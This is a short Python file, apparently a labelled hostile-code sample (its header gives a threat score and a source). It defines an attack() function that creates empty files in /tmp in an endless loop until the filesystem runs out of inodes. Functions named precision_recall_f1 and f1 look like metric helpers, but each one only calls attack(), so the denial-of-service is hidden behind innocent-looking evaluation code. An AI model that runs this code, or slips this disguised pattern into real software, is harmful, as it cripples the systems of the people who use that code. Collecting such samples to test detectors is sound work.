"""Makes empty files until there are no more inodes.

threat: 18
source: known
verdict: any
"""

import os


def attack():
    number = 0
    while True:
        os.makedirs(f"/tmp/{number % 100}", exist_ok=True)
        open(f"/tmp/{number % 100}/{number}", "w").close()
        number += 1
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
